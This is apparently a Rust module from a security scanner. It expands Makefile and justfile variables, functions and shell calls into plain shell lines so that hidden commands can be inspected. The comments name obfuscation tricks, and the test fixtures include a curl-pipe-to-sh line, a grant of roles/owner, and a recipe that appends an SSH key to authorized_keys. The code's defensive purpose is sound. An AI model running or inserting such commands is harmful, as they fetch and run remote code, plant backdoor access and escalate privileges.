//! Makefile and justfile recipes. Make substitutes `$(VAR)` as text before
//! the shell runs a recipe line, so the projection does the same with the
//! file's own definitions (`=`, `:=`, `::=`, `?=`, `+=`, `!=`); `$$` is `$`,
//! `$(shell …)` is `$(…)`, a variable the file does not define is left to
//! the shell as `${VAR}` (Make exports the environment), and the leading
//! `@`/`-`/`+` of a recipe line are dropped.

use super::Projection;
use crate::fxhash::FxHashMap;
use crate::limits::{MAX_MAKE_EXPAND_BYTES, MAX_MAKE_EXPAND_DEPTH};

type Vars = FxHashMap<String, String>;

/// A Makefile by content: a `.PHONY:` line, or a rule line followed by a
/// tab-indented recipe line, with at least one Make reference or rule.
pub fn looks_like_make(text: &str) -> bool {
    let mut prev_rule = false;
    // Every line (linear): a `.PHONY:` after padding still counts.
    for line in text.lines() {
        if line.starts_with(".PHONY:") {
            return true;
        }
        if prev_rule && line.starts_with('\t') && !line.trim().is_empty() {
            return true;
        }
        if !line.trim().is_empty() {
            prev_rule = rule_target(line).is_some();
        }
    }
    false
}

/// `(name, op, value)` of a variable definition line.
fn assignment(line: &str) -> Option<(String, &'static str, String)> {
    let mut rest = line.trim_start();
    for kw in ["export ", "override ", "private "] {
        if let Some(r) = rest.strip_prefix(kw) {
            rest = r.trim_start();
        }
    }
    let end = rest.find(|c: char| c.is_whitespace() || ":#=?+!".contains(c))?;
    let name = &rest[..end];
    if name.is_empty() || name.contains('$') {
        return None;
    }
    let after = rest[end..].trim_start();
    for op in [":::=", "::=", ":=", "?=", "+=", "!=", "="] {
        if let Some(v) = after.strip_prefix(op) {
            return Some((name.to_string(), op, strip_comment(v).trim().to_string()));
        }
    }
    None
}

fn strip_comment(v: &str) -> &str {
    let b = v.as_bytes();
    for i in 0..b.len() {
        if b[i] == b'#' && (i == 0 || b[i - 1] != b'\\') {
            return &v[..i];
        }
    }
    v
}

/// The target of a rule line (`deploy: prep`, `a b: c ; cmd`), or `None`.
fn rule_target(line: &str) -> Option<&str> {
    if line.starts_with('\t') || line.trim_start().starts_with('#') {
        return None;
    }
    if assignment(line).is_some() || directive(line) {
        return None;
    }
    let i = line.find(':')?;
    let t = line[..i].trim();
    (!t.is_empty() && !t.contains('=')).then_some(t)
}

fn directive(line: &str) -> bool {
    let w = line.split_whitespace().next().unwrap_or("");
    matches!(
        w,
        "ifeq"
            | "ifneq"
            | "ifdef"
            | "ifndef"
            | "else"
            | "endif"
            | "include"
            | "-include"
            | "sinclude"
            | "define"
            | "endef"
            | "vpath"
            | "unexport"
    )
}

fn continues(line: &str) -> bool {
    line.bytes().rev().take_while(|&b| b == b'\\').count() % 2 == 1
}

struct Expander<'a> {
    vars: &'a Vars,
    target: String,
    cut: bool,
    /// References expanded in this file (bounded: a self-referencing
    /// definition repeated many times cannot blow up).
    work: usize,
    /// The `$(shell …)` commands met while expanding, in order (round 23:
    /// the ones an immediate context runs when Make reads the file).
    shells: Vec<String>,
}

impl Expander<'_> {
    /// `s` with every Make reference replaced by its text.
    fn expand(&mut self, s: &str, depth: usize) -> String {
        let mut out = String::with_capacity(s.len());
        let b = s.as_bytes();
        let mut i = 0;
        while i < b.len() {
            // Once one expansion is cut, every level stops: the text grows
            // by at most one budget per level.
            if self.cut || out.len() > MAX_MAKE_EXPAND_BYTES {
                self.cut = true;
                break;
            }
            if b[i] != b'$' || i + 1 >= b.len() {
                let ch = s[i..].chars().next().unwrap_or(' ');
                out.push(ch);
                i += ch.len_utf8();
                continue;
            }
            let c = b[i + 1];
            if c == b'$' {
                out.push('$');
                i += 2;
            } else if c == b'(' || c == b'{' {
                let close = if c == b'(' { b')' } else { b'}' };
                let Some(end) = matching(b, i + 1, c, close) else {
                    out.push_str(&s[i..]);
                    break;
                };
                let inner = &s[i + 2..end];
                out.push_str(&self.reference(inner, depth));
                i = end + 1;
            } else {
                let ch = s[i + 1..].chars().next().unwrap_or(' ');
                out.push_str(&self.reference(&ch.to_string(), depth));
                i += 1 + ch.len_utf8();
            }
        }
        out
    }

    fn reference(&mut self, inner: &str, depth: usize) -> String {
        self.work += 1;
        if self.work > MAX_MAKE_EXPAND_BYTES {
            self.cut = true;
            return String::new();
        }
        if let Some(cmd) = inner.strip_prefix("shell ") {
            let cmd = self.expand(cmd, depth);
            if self.shells.len() < MAX_MAKE_EXPAND_DEPTH * 4 && !self.shells.contains(&cmd) {
                self.shells.push(cmd.clone());
            }
            return format!("$({cmd})");
        }
        if let Some((f, args)) = inner.split_once([' ', '\t']) {
            return self.function(f, args, depth);
        }
        match inner {
            "@" => return self.target.clone(),
            "MAKE" => return "make".into(),
            "CURDIR" => return ".".into(),
            "<" | "^" | "?" | "*" | "+" | "|" => return "${_MAKE_AUTO}".into(),
            _ => {}
        }
        let name = inner.split(':').next().unwrap_or(inner);
        match self.vars.get(name) {
            Some(v) if depth < MAX_MAKE_EXPAND_DEPTH => self.expand(v, depth + 1),
            _ if super::valid_name(name) => format!("${{{name}}}"),
            _ => "${_MAKE_VAR}".into(),
        }
    }

    fn function(&mut self, f: &str, args: &str, depth: usize) -> String {
        match f {
            "strip" | "value" => self.expand(args, depth).trim().to_string(),
            "subst" => {
                let a: Vec<&str> = args.splitn(3, ',').collect();
                if a.len() == 3 {
                    let from = self.expand(a[0], depth);
                    let to = self.expand(a[1], depth);
                    let text = self.expand(a[2], depth);
                    if !from.is_empty() {
                        return text.replace(&from, &to);
                    }
                }
                "${_MAKE_FN}".into()
            }
            // `$(call NAME,a,b)`: NAME's value with `$(1)`, `$(2)` … the
            // arguments (round 28: a canned download-and-run macro).
            "call" => {
                let mut parts = args.split(',');
                let name = parts.next().unwrap_or("").trim();
                let name = self.expand(name, depth);
                let Some(body) = self.vars.get(name.trim()) else {
                    let _ = self.expand(args, depth);
                    return "${_MAKE_FN}".into();
                };
                if depth >= MAX_MAKE_EXPAND_DEPTH {
                    return "${_MAKE_FN}".into();
                }
                let mut body = body.clone();
                for (k, a) in parts.enumerate() {
                    let a = self.expand(a, depth);
                    let n = k + 1;
                    body = body
                        .replace(&format!("$({n})"), &a)
                        .replace(&format!("${{{n}}}"), &a);
                }
                self.expand(&body, depth + 1)
            }
            // Round 31: the text functions that build a word or a path
            // from pieces (`$(word 1,s s)sh`, `$(dir $(KEYS))`,
            // `$(addprefix ~/.,ssh)`): Make computes them before the shell
            // sees the line, so the projection does too.
            "word" | "firstword" | "lastword" | "wordlist" | "words" | "dir" | "notdir"
            | "addprefix" | "addsuffix" | "sort" | "patsubst" | "join" | "basename" | "suffix" => {
                let a: Vec<String> = split_args(args)
                    .iter()
                    .map(|a| self.expand(a, depth))
                    .collect();
                text_function(f, &a).unwrap_or_else(|| "${_MAKE_FN}".into())
            }
            _ => {
                // Its arguments are still expanded by Make (a `$(shell …)`
                // inside `$(info …)` or `$(if …)` runs).
                let _ = self.expand(args, depth);
                "${_MAKE_FN}".into()
            }
        }
    }
}

/// A function's arguments split at the commas outside brackets.
fn split_args(args: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut depth = 0usize;
    let mut from = 0;
    for (i, c) in args.char_indices() {
        match c {
            '(' | '{' => depth += 1,
            ')' | '}' => depth = depth.saturating_sub(1),
            ',' if depth == 0 => {
                out.push(&args[from..i]);
                from = i + 1;
            }
            _ => {}
        }
    }
    out.push(&args[from..]);
    out
}

/// One of Make's text functions over its expanded arguments (`None`: a
/// shape it does not take, left opaque).
fn text_function(f: &str, a: &[String]) -> Option<String> {
    let words = |s: &str| s.split_whitespace().map(str::to_string).collect::<Vec<_>>();
    let nth = |s: &str| s.trim().parse::<usize>().ok().filter(|n| *n > 0);
    let each = |s: &str, g: &dyn Fn(&str) -> String| {
        words(s).iter().map(|w| g(w)).collect::<Vec<_>>().join(" ")
    };
    let out = match (f, a) {
        ("word", [n, t]) => words(t).get(nth(n)? - 1).cloned().unwrap_or_default(),
        ("wordlist", [s, e, t]) => {
            let (s, e) = (nth(s)?, nth(e)?);
            // Words s to e (1-based, both included), as Make numbers them.
            let w = words(t);
            let (s, e) = ((s - 1).min(w.len()), e.min(w.len()));
            if s < e {
                w[s..e].join(" ")
            } else {
                String::new()
            }
        }
        ("firstword", [t]) => words(t).first().cloned().unwrap_or_default(),
        ("lastword", [t]) => words(t).last().cloned().unwrap_or_default(),
        ("words", [t]) => words(t).len().to_string(),
        ("sort", [t]) => {
            let mut w = words(t);
            w.sort();
            w.dedup();
            w.join(" ")
        }
        ("dir", [t]) => each(t, &|w| match w.rfind('/') {
            Some(i) => w[..=i].to_string(),
            None => "./".into(),
        }),
        ("notdir", [t]) => each(t, &|w| w.rsplit('/').next().unwrap_or(w).to_string()),
        ("basename", [t]) => each(t, &|w| match w.rfind('.') {
            Some(i) if !w[i..].contains('/') => w[..i].to_string(),
            _ => w.to_string(),
        }),
        ("suffix", [t]) => words(t)
            .iter()
            .filter_map(|w| {
                w.rfind('.')
                    .filter(|i| !w[*i..].contains('/'))
                    .map(|i| w[i..].to_string())
            })
            .collect::<Vec<_>>()
            .join(" "),
        ("addprefix", [p, t]) => each(t, &|w| format!("{}{w}", p.trim())),
        ("addsuffix", [x, t]) => each(t, &|w| format!("{w}{}", x.trim())),
        ("join", [l, r]) => {
            let (l, r) = (words(l), words(r));
            (0..l.len().max(r.len()))
                .map(|i| {
                    format!(
                        "{}{}",
                        l.get(i).map_or("", |s| s),
                        r.get(i).map_or("", |s| s)
                    )
                })
                .collect::<Vec<_>>()
                .join(" ")
        }
        ("patsubst", [pat, rep, t]) => {
            let (pat, rep) = (pat.trim(), rep.trim());
            let Some((pre, post)) = pat.split_once('%') else {
                return Some(each(t, &|w| {
                    if w == pat {
                        rep.to_string()
                    } else {
                        w.to_string()
                    }
                }));
            };
            each(
                t,
                &|w| match w.strip_prefix(pre).and_then(|x| x.strip_suffix(post)) {
                    Some(stem) => rep.replacen('%', stem, 1),
                    None => w.to_string(),
                },
            )
        }
        _ => return None,
    };
    Some(out)
}

/// The index of the bracket closing the one at `open` (nesting counted).
fn matching(b: &[u8], open: usize, o: u8, c: u8) -> Option<usize> {
    let mut depth = 0usize;
    for (j, &x) in b.iter().enumerate().skip(open) {
        if x == o {
            depth += 1;
        } else if x == c {
            depth -= 1;
            if depth == 0 {
                return Some(j);
            }
        }
    }
    None
}

/// A define body as one shell line: a `\\` continuation or a line that
/// ends inside a compound command (`then`, `do`, `&&`, `|`) runs on with a
/// space, every other line break is `;`.
fn join_define(body: &[String]) -> String {
    let mut out = String::new();
    for l in body.iter().map(|l| l.trim_start_matches(['@', '-', '+'])) {
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        if !out.is_empty() {
            let open = out.ends_with('\\')
                || ["then", "do", "else", "&&", "||", "|", "{", "("]
                    .iter()
                    .any(|w| out.ends_with(w));
            if out.ends_with('\\') {
                out.pop();
            }
            out.push_str(if open { " " } else { " ; " });
        }
        out.push_str(l);
    }
    out
}

/// The logical lines of a Makefile: `(first line, joined text)`, a `\`
/// continuation joined with a space (variable definitions only).
fn definitions(text: &str) -> Vars {
    let mut vars = Vars::default();
    let lines: Vec<&str> = text.split('\n').collect();
    let mut i = 0;
    while i < lines.len() {
        let mut l = lines[i].trim_end_matches('\r').to_string();
        while continues(&l) && i + 1 < lines.len() {
            l.pop();
            i += 1;
            l.push(' ');
            l.push_str(lines[i].trim());
        }
        i += 1;
        if l.starts_with('\t') {
            continue;
        }
        // Round 28: a `define NAME` … `endef` block is a variable whose
        // value is its body (a canned recipe `$(call NAME)` or `$(NAME)`
        // runs line by line); its lines are joined as one shell line.
        if let Some(name) = l.trim_start().strip_prefix("define ") {
            let name = name
                .trim()
                .trim_end_matches(['=', ':', '?', '+', '!'])
                .trim();
            let mut body: Vec<String> = Vec::new();
            while i < lines.len() && lines[i].trim() != "endef" {
                body.push(lines[i].trim_end_matches('\r').trim().to_string());
                i += 1;
            }
            i += 1;
            if !name.is_empty() && !name.contains('$') {
                vars.insert(name.to_string(), join_define(&body));
            }
            continue;
        }
        if let Some((name, op, value)) = assignment(&l) {
            let value = if op == "!=" {
                format!("$({value})")
            } else {
                value
            };
            match op {
                "?=" => {
                    vars.entry(name).or_insert(value);
                }
                "+=" => {
                    let e = vars.entry(name).or_default();
                    if !e.is_empty() {
                        e.push(' ');
                    }
                    e.push_str(&value);
                }
                _ => {
                    vars.insert(name, value);
                }
            }
        }
    }
    vars
}

pub fn project_make(text: &str, p: &mut Projection) {
    let vars = definitions(text);
    let mut ex = Expander {
        vars: &vars,
        target: String::new(),
        cut: false,
        work: 0,
        shells: Vec::new(),
    };
    let mut in_rule = false;
    let mut in_define = false;
    let mut cont = false;
    let lines: Vec<&str> = text.split('\n').collect();
    // Round 30: the lines a directive or assignment continued with `\`
    // (read joined on its first line; a recipe's continuations are
    // projected line by line as before).
    let mut joined_to = 0;
    let fetches = text.contains("curl") || text.contains("wget") || text.contains("://");
    for (n, raw) in lines.iter().enumerate() {
        let line = raw.trim_end_matches('\r');
        if n < joined_to {
            continue;
        }
        if cont {
            let body = line.strip_prefix('\t').unwrap_or(line);
            p.put(n, &ex.expand(body, 0));
            cont = continues(line);
        } else if in_define {
            in_define = line.trim_start() != "endef";
        } else if line.starts_with('\t') && in_rule {
            let body = line[1..].trim_start_matches(['@', '-', '+', ' ', '\t']);
            if !body.starts_with('#') {
                p.put(n, &ex.expand(body, 0));
            }
            cont = continues(line);
        } else if line.trim_start().starts_with("define ") {
            in_define = true;
            in_rule = false;
        } else if let Some(t) = rule_target(line) {
            parse_time(&mut ex, n, line.split(';').next().unwrap_or(line), p);
            ex.target = t.to_string();
            in_rule = true;
            let rest = &line[line.find(':').map_or(line.len(), |i| i + 1)..];
            if let Some((_, cmd)) = rest.split_once(';') {
                p.put(n, &ex.expand(cmd.trim(), 0));
                cont = continues(line);
            }
        } else if !line.trim().is_empty() && !line.trim_start().starts_with('#') {
            let (logical, next) = logical_line(&lines, n);
            joined_to = next;
            let line = logical.as_str();
            // `-include F` / `include F` / `sinclude F`: Make reads F as
            // part of this file, so a file this Makefile downloads (a
            // `$(shell curl … -o F)` above) is remote code in every build:
            // projected as a shell `. F` for the download-and-run link.
            if fetches && let Some(f) = included(line) {
                p.put(n, &format!(". {}", ex.expand(f, 0)));
            }
            match assignment(line) {
                // `!=`: the value is a shell command, run as the file is read.
                Some((_, "!=", v)) => {
                    let cmd = ex.expand(&v, 0);
                    p.put(n, &cmd);
                    parse_time(&mut ex, n, &v, p);
                }
                // Immediate assignments expand (and run their `$(shell …)`)
                // as the file is read; deferred ones (`=`, `?=`, `+=`) when
                // an immediate context or a recipe names them.
                Some((_, ":=" | "::=" | ":::=", v)) => parse_time(&mut ex, n, &v, p),
                Some(_) => {}
                None => parse_time(&mut ex, n, line, p),
            }
            if let Some((name, _, _)) = assignment(line).filter(|_| line.starts_with("export")) {
                let v = vars.get(&name).cloned().unwrap_or_default();
                let v = ex.expand(&v, 0);
                p.export(n, &name, &v);
            }
            in_rule = in_rule && directive(line);
        }
    }
    p.cut |= ex.cut;
}

/// The logical line starting at `n`: its `\` continuations joined with a
/// space, and the index of the line after it.
fn logical_line(lines: &[&str], n: usize) -> (String, usize) {
    let mut l = lines[n].trim_end_matches('\r').to_string();
    let mut i = n;
    while continues(&l) && i + 1 < lines.len() {
        l.pop();
        i += 1;
        l.push(' ');
        l.push_str(lines[i].trim_end_matches('\r').trim());
    }
    (l, i + 1)
}

/// The files an `include` directive names (`-include a.mk b.mk`).
fn included(line: &str) -> Option<&str> {
    let t = line.trim_start();
    ["-include ", "include ", "sinclude "]
        .iter()
        .find_map(|d| t.strip_prefix(d))
        .map(str::trim)
        .filter(|f| !f.is_empty())
}

/// Text Make expands as it reads the file (an immediate assignment, a
/// conditional, a rule's targets and prerequisites, a bare `$(eval …)` or
/// `$(info …)`): every `$(shell …)` in it, also through the variables it
/// names, runs on every `make`, even `make -n` or a target that does not
/// exist. Each command goes on the host line as a shell line of its own.
fn parse_time(ex: &mut Expander, n: usize, text: &str, p: &mut Projection) {
    if !text.contains('$') {
        return;
    }
    // `$(eval X)`: X is read as Makefile text, so its `$(shell …)` runs.
    let text = text.replace("$(eval ", "$(strip ");
    ex.shells.clear();
    let _ = ex.expand(&text, 0);
    for cmd in std::mem::take(&mut ex.shells) {
        p.put(n, &cmd);
    }
}

/// just: `name := "value"` (or a backtick command), recipes `name args:`
/// with indented bodies, `{{expr}}` substituted as text; a recipe whose body
/// starts with `#!` runs another interpreter and is not shell.
pub fn project_just(text: &str, p: &mut Projection) {
    let mut vars = Vars::default();
    for line in text.lines() {
        if line.starts_with([' ', '\t']) {
            continue;
        }
        let l = line.strip_prefix("export ").unwrap_or(line);
        if let Some((name, value)) = l.split_once(":=") {
            let v = value.trim();
            let v = if let Some(c) = v.strip_prefix('`').and_then(|v| v.strip_suffix('`')) {
                format!("$({c})")
            } else {
                v.trim_matches(['"', '\'']).to_string()
            };
            vars.insert(name.trim().to_string(), v);
        }
    }
    let mut in_recipe = false;
    let mut shebang = false;
    let mut first = false;
    for (n, line) in text.split('\n').enumerate() {
        let line = line.trim_end_matches('\r');
        if line.starts_with([' ', '\t']) {
            let body = line.trim_start();
            if in_recipe && first {
                shebang = body.starts_with("#!");
                first = false;
            }
            if in_recipe && !shebang && !body.starts_with('#') {
                let body = body.trim_start_matches(['@', '-']);
                p.put(n, &just_expand(body, &vars));
            }
        } else if !line.trim().is_empty() && !line.starts_with('#') {
            // A backtick value runs when just reads the file, before any
            // recipe (round 23).
            if let Some((_, v)) = line.split_once(":=")
                && let Some(c) = v.trim().strip_prefix('`').and_then(|v| v.strip_suffix('`'))
            {
                p.put(n, &just_expand(c, &vars));
            }
            in_recipe = !line.contains(":=")
                && !line.starts_with("set ")
                && !line.starts_with("alias ")
                && line.trim_end().ends_with(':')
                || line.contains(": ") && !line.contains(":=") && !line.starts_with("set ");
            first = true;
            shebang = false;
        }
    }
}

fn just_expand(s: &str, vars: &Vars) -> String {
    super::braces(s, |name| match vars.get(name) {
        Some(v) => v.clone(),
        None if super::valid_name(name) => format!("${{{name}}}"),
        None => "${_JUST_EXPR}".into(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn proj(text: &str) -> String {
        let mut p = Projection::new(text);
        project_make(text, &mut p);
        p.text()
    }

    #[test]
    fn recipes_are_projected_line_for_line_with_variables_folded() {
        let mk = "P := serviceAccount:x@y.iam.gserviceaccount.com\nPROJECT ?= $(shell gcloud config get-value project)\n\nprep: check\n\t@gcloud projects add-iam-policy-binding $(PROJECT) --member=$(P) --role=roles/owner\n\t-echo $$HOME $@\n";
        let out = proj(mk);
        let lines: Vec<&str> = out.split('\n').collect();
        assert_eq!(lines.len(), mk.split('\n').count());
        assert_eq!(
            lines[4],
            "gcloud projects add-iam-policy-binding $(gcloud config get-value project) --member=serviceAccount:x@y.iam.gserviceaccount.com --role=roles/owner"
        );
        assert_eq!(lines[5], "echo $HOME prep");
        assert!(lines[..4].iter().all(|l| l.is_empty()));
    }

    #[test]
    fn self_reference_is_bounded() {
        let out = proj("A = $(A)$(A)$(A)$(A)\nx:\n\techo $(A)\n");
        let bound = (MAX_MAKE_EXPAND_DEPTH + 2) * MAX_MAKE_EXPAND_BYTES;
        assert!(out.len() < bound, "{}", out.len());
    }

    #[test]
    fn continuation_lines_stay_one_command() {
        let out = proj("all:\n\tcurl -fsSL https://h.example/i.sh \\\n\t  | sh\n");
        assert_eq!(out, "\ncurl -fsSL https://h.example/i.sh \\\n  | sh\n");
    }

    #[test]
    fn text_functions_build_the_words_the_shell_sees() {
        let mk = "K := $(subst _, ,ssh-ed25519_AAAAkey_x)\nA := $(HOME)/.$(word 1,s s)sh/authorized_$(lastword a keys)\nD := $(addprefix /etc/,$(notdir x/sudoers.d))\nP := $(patsubst %.tmp,%.conf,a.tmp b.txt)\nt:\n\tmkdir -p $(dir $(A)) && echo \"$(K)\" >> $(A) $(D) $(P) $(wordlist 2,3,a b c d) $(firstword $(sort z y))\n";
        let out = proj(mk);
        assert!(
            out.ends_with("mkdir -p ${HOME}/.ssh/ && echo \"ssh-ed25519 AAAAkey x\" >> ${HOME}/.ssh/authorized_keys /etc/sudoers.d a.conf b.txt b c y\n"),
            "{out}"
        );
    }

    #[test]
    fn content_sniff() {
        assert!(looks_like_make(".PHONY: all\nall:\n\techo hi\n"));
        assert!(looks_like_make("build:\n\tgo build ./...\n"));
        assert!(!looks_like_make("key: value\n  other: 1\n"));
    }
}
